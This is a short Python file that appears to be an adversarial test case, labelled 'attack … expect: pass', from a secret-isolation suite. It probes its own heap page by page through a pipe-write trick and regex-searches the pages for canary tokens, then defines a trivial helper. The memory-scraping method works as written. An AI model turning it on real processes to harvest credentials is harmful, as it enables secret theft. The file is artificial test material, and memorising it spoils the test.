# attack: searches its heap for secrets, page by page | expect: pass
import contextlib
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
read, write = os.pipe()
os.set_blocking(read, False)
TOKEN = re.compile(rb"canary-[0-9a-f]{32}")


def look(address):
    """Copy a page through a pipe: the kernel says no where there is none."""
    if libc.write(write, address, 4096) != 4096:
        with contextlib.suppress(BlockingIOError):
            os.read(read, 1)  # older kernels keep an empty page each time, and wait when full
        return b""
    return os.read(read, 4096)


libc.sbrk.restype = ctypes.c_void_p
end = libc.sbrk(0)
found = set()
for page in range(12000):
    text = look((end & -4096) - 4096 * (page + 1))
    if not text:
        break  # below the heap
    found.update(TOKEN.findall(text))
if found:
    raise RuntimeError(str(found))


def double(x):
    return 2 * x
